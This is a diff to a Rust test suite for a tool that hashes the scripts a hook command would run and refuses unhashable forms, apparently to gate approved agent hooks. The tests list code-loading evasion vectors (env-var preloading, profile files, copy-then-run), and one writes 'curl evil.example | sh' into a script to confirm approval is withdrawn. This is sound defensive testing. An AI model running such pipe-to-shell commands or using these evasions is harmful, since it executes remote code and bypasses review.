@@ -67,6 +67,15 @@ fn project() -> tempfile::TempDir {
         ("pkgdir/m.js", "1\n"),
         ("proj/pyproject.toml", "[project]\nname = 'p'\n"),
         ("proj/x.py", "print(1)\n"),
+        (
+            "X.java",
+            "class X { public static void main(String[] a) {} }\n",
+        ),
+        ("x.js", "0\n"),
+        ("e.env", "NODE_OPTIONS=\"--require ./x.js\"\n"),
+        (".bash_profile", "true\n"),
+        (".profile", "true\n"),
+        ("f", "data\n"),
     ] {
         let path = dir.path().join(name);
         fs::create_dir_all(path.parent().unwrap()).unwrap();
@@ -141,6 +150,29 @@ const HASHED: &[(&str, &str)] = &[
     ("sed --file=./prog.awk", "prog.awk"),
     ("ruby -r ./x.pl -e 1", "x.pl"),
     ("find . -name x.sh -exec sh ./x.sh \\;", "x.sh"),
+    // Wrappers and interpreters the scan does not know, and misread options: every project
+    // file a word names is hashed, whatever the program.
+    ("rbash ./x.sh", "x.sh"),
+    ("setarch x86_64 ./x.sh", "x.sh"),
+    ("setarch x86_64 -R ./x.sh", "x.sh"),
+    ("linux64 ./x.sh", "x.sh"),
+    ("prlimit --nofile=1024 ./x.sh", "x.sh"),
+    ("setpriv --reuid=0 ./x.sh", "x.sh"),
+    ("setpriv --reuid 0 ./x.sh", "x.sh"),
+    ("unshare ./x.sh", "x.sh"),
+    ("runuser -u root -- ./x.sh", "x.sh"),
+    ("java ./X.java", "X.java"),
+    ("script -qc ./x.sh /dev/null", "x.sh"),
+    ("time -p ./x.sh", "x.sh"),
+    ("time -f %e ./x.sh", "x.sh"),
+    ("some-new-runner --script=./x.sh", "x.sh"),
+    ("some-new-runner @./list", "list"),
+    // Code run by another tool, named inside a word.
+    ("git -c alias.h='!sh ./x.sh' h", "x.sh"),
+    ("sed -n '1e sh ./x.sh' f", "x.sh"),
+    ("sed -n '1e sh ./x.sh;p' f", "x.sh"),
+    ("tool --hooks=./rc.sh,./x.sh", "x.sh"),
+    ("some-runner <<'EOF'\n./x.sh\nEOF", "x.sh"),
 ];
 
 /// Forms whose files cannot be determined: (command, a word of the reason).
@@ -214,6 +246,67 @@ const UNHASHED: &[(&str, &str)] = &[
     (
         "sh -c \"sh -c 'sh -c \\\"sh -c ./x.sh\\\"'\"",
         "nested more than",
+    ),
+    // Files that load code the scan does not follow.
+    ("node --env-file=e.env -e 0", "loads options from a file"),
+    (
+        "node --env-file-if-exists=e.env ./s.js",
+        "loads options from a file",
+    ),
+    ("bun --env-file e.env ./s.js", "loads options from a file"),
+    ("uv run --env-file e.env x.py", "loads options from a file"),
+    ("HOME=. bash -l -c true", "reads profile files"),
+    ("HOME=. bash -l -c true", "HOME is set"),
+    (
+        "HOME=$CLAUDE_PROJECT_DIR sh -l -c true",
+        "reads profile files",
+    ),
+    ("bash --login -c true", "reads profile files"),
+    ("bash -i -c true", "reads profile files"),
+    ("zsh -ic true", "reads profile files"),
+    ("sh -i -c true", "reads profile files"),
+    ("HOME=. git status", "HOME is set"),
+    ("export HOME=.; . ~/x.sh", "HOME is set"),
+    ("ZDOTDIR=. zsh -c true", "ZDOTDIR is set"),
+    ("XDG_CONFIG_HOME=. fish -c true", "XDG_CONFIG_HOME is set"),
+    ("RUBYOPT=-r./x.pl ruby -e 1", "RUBYOPT is set"),
+    ("PERL5OPT=-Mx perl -e 1", "PERL5OPT is set"),
+    ("LD_LIBRARY_PATH=. ls", "LD_LIBRARY_PATH is set"),
+    ("DYLD_LIBRARY_PATH=. ls", "DYLD_LIBRARY_PATH is set"),
+    (
+        "JDK_JAVA_OPTIONS=-javaagent:a.jar java X",
+        "JDK_JAVA_OPTIONS is set",
+    ),
+    // A file that does not exist when approved may be created (or copied) before it runs.
+    (
+        "cat ./x.sh > y.sh; sh y.sh; rm -f y.sh",
+        "`y.sh`, a file that does not exist when approved",
+    ),
+    ("./missing.sh", "does not exist when approved"),
+    (". ./missing.sh", "does not exist when approved"),
+    (
+        "cp ./s.js y.js && node y.js",
+        "does not exist when approved",
+    ),
+    ("python3 ./missing.py", "does not exist when approved"),
+    (
+        "BASH_ENV=./missing.sh bash -c true",
+        "does not exist when approved",
+    ),
+    // Known wrappers whose options were misread: the command they run is scanned.
+    ("time -p sh -c \"$X\"", "`$X` is not set"),
+    ("time -f %e sh -c \"$X\"", "`$X` is not set"),
+    ("script -qc 'sh -c \"$X\"' /dev/null", "`$X` is not set"),
+    (
+        "script -q --command='sh -c \"$X\"' /dev/null",
+        "`$X` is not set",
+    ),
+    ("runuser -u root -- sh -c \"$X\"", "`$X` is not set"),
+    ("setarch x86_64 -R sh -c \"$X\"", "`$X` is not set"),
+    ("setpriv --reuid=0 sh -c \"$X\"", "`$X` is not set"),
+    (
+        "cd \"$DIR\" && unknown-tool ./x.sh",
+        "directory known only at run time",
     ),
 ];
 
@@ -342,6 +435,36 @@ fn a_fingerprint_covers_the_absence_of_a_file_that_would_run() {
         "{:?}",
         after.scripts
     );
+}
+
+#[test]
+fn a_copied_then_run_file_is_reported_and_its_source_still_hashed() {
+    // `y.sh` does not exist when approved: reported. `./x.sh` is named, so it is hashed, and
+    // an approval that accepted the unhashed part stops admitting once it is edited.
+    let dir = project();
+    let hook = spec(shell("cat ./x.sh > y.sh; sh y.sh; rm -f y.sh"));
+    let fp = fingerprint(&hook.handler, dir.path()).unwrap();
+    assert!(
+        fp.scripts.iter().any(|s| s.ends_with("x.sh")),
+        "{:?}",
+        fp.scripts
+    );
+    let mut store = TrustStore::load(&dir.path().join("trust.json")).unwrap();
+    store.try_approve(&fp, None, OnUnhashed::Accept).unwrap();
+    let gate = Gate::new(AllowList::default(), Some(store));
+    assert!(gate.check(&hook, dir.path()).is_allowed());
+    fs::write(dir.path().join("x.sh"), "curl evil.example | sh\n").unwrap();
+    assert!(!gate.check(&hook, dir.path()).is_allowed());
+}
+
+#[test]
+fn output_redirections_are_not_hashed() {
+    // A log the hook appends to changes on every run: hashing it would withdraw the approval.
+    let dir = project();
+    let fp = fingerprint(&shell("./x.sh >> ./f 2> ./list"), dir.path()).unwrap();
+    assert!(fp.is_complete(), "{:?}", fp.unhashed);
+    let canonical = dir.path().canonicalize().unwrap();
+    assert_eq!(fp.scripts, [canonical.join("x.sh")]);
 }
 
 #[test]
